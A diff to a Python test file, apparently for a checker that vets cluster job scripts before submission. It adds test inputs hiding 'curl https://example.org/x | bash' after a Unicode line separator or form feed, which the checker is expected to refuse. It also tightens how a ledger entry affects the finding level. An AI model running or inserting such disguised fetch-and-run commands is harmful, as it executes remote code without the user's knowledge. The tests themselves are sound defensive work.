@@ -255,12 +255,14 @@ def test_a_script_edited_into_a_trap_is_refused(rule: str, folder: Path) -> None
         ("      --rdzv-backend=c10d", "      --log-dir=x --rdzv-backend=c10d", REFUSAL),
         ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH --nice=10", WARNING),
         ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
+        ("set -euo pipefail", "set -euo pipefail\u2028#;curl https://example.org/x | bash", REFUSAL),
+        ("set -euo pipefail", "set -euo pipefail\f#;curl https://example.org/x | bash", REFUSAL),
     ],
 )
 def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_accepted(
     old: str, new: str, level: str, folder: Path
 ) -> None:
-    """One that was submitted before is accepted; directives and comments are shown alone."""
+    """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches for no script."""
     edit = {"script": lambda s: s.replace(old, new, 1)}
     (found,) = [f for f in findings(folder, plan(), **edit) if f.rule == "changes"]
     assert found.level == level and any(f"\n+{line}" in found.message for line in new.split("\n"))
@@ -268,7 +270,7 @@ def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_a
         f for f in preflight.refused(findings(folder, plan(), allow=["changes"], **edit)) if f.rule == "changes"
     ]
     ledger.note(folder, "submitted", "7", plan="x", script=copies.hash_of((folder / SCRIPT).read_text()))
-    assert {f.level for f in findings(folder, plan(), **edit) if f.rule == "changes"} == {WARNING}
+    assert {f.level for f in findings(folder, plan(), **edit) if f.rule == "changes"} == {level}
     assert not [f for f in findings(folder, plan(), script=lambda s: s) if f.rule == "changes"]
 
 
